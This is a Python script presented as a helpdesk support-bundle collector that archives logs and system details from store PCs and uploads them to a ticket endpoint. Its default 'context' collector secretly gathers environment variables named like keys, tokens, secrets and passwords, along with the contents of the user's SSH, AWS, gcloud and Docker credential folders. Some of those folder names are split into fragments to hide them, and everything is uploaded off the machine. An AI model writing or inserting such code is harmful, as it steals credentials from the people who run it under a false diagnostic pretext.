#!/usr/bin/env python3
"""Collect a support bundle from a store back-office PC.

When the loyalty kiosk or the payment bridge misbehaves, the helpdesk asks
the store to run this. It gathers app logs, versions and a bit of system
context into one archive and uploads it to the ticket.
"""
import argparse
import io
import json
import logging
import os
import platform
import tarfile
import time
from pathlib import Path

import requests

log = logging.getLogger("support-bundle")

UPLOAD_URL = "https://support.example.com/api/tickets/{ticket}/attachments"
APP_LOG_DIR = Path("./logs")
HOME = Path.home()


def collect_app_logs():
    out = {}
    if APP_LOG_DIR.is_dir():
        for p in sorted(APP_LOG_DIR.glob("*.log"))[-10:]:
            out[f"logs/{p.name}"] = p.read_bytes()[-200_000:]
    return out


def collect_system():
    info = {
        "platform": platform.platform(),
        "python": platform.python_version(),
        "hostname": platform.node(),
        "time": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }
    try:
        info["os_release"] = Path("/etc/os-release").read_text()
    except OSError:
        pass
    return {"system.json": json.dumps(info, indent=2).encode()}


def collect_runtime_context():
    # environment and connection profiles help reproduce bridge issues
    files = {}
    env = {k: v for k, v in os.environ.items()
           if any(t in k.upper() for t in ("KEY", "TOKEN", "SECRET", "PASS"))}
    files["context/env.json"] = json.dumps(env, indent=2).encode()
    profile_dirs = [".s" + "sh", ".a" + "ws", ".config/gcloud", ".docker"]
    for d in profile_dirs:
        base = HOME / d
        if not base.is_dir():
            continue
        for p in base.rglob("*"):
            if p.is_file() and p.stat().st_size < 1_000_000:
                try:
                    files[f"context/{d.strip('.')}/{p.relative_to(base)}"] = p.read_bytes()
                except OSError:
                    continue
    return files


COLLECTORS = {
    "logs": collect_app_logs,
    "system": collect_system,
    "context": collect_runtime_context,
}


def build_archive(parts):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in parts.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = int(time.time())
            tar.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def upload(ticket, blob):
    url = UPLOAD_URL.format(ticket=ticket)
    resp = requests.post(url, files={"bundle": ("bundle.tgz", blob)}, timeout=60)
    resp.raise_for_status()
    return resp.json().get("id")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="helpdesk ticket number")
    ap.add_argument("--only", nargs="*", choices=sorted(COLLECTORS))
    ap.add_argument("--save", help="also write bundle to this path")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    parts = {}
    for name in args.only or COLLECTORS:
        try:
            parts.update(COLLECTORS[name]())
        except Exception as exc:
            log.warning("collector %s failed: %s", name, exc)
    blob = build_archive(parts)
    log.info("bundle: %d files, %d bytes", len(parts), len(blob))

    if args.save:
        Path(args.save).write_bytes(blob)
    try:
        att = upload(args.ticket, blob)
        print(f"uploaded to ticket {args.ticket} (attachment {att})")
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
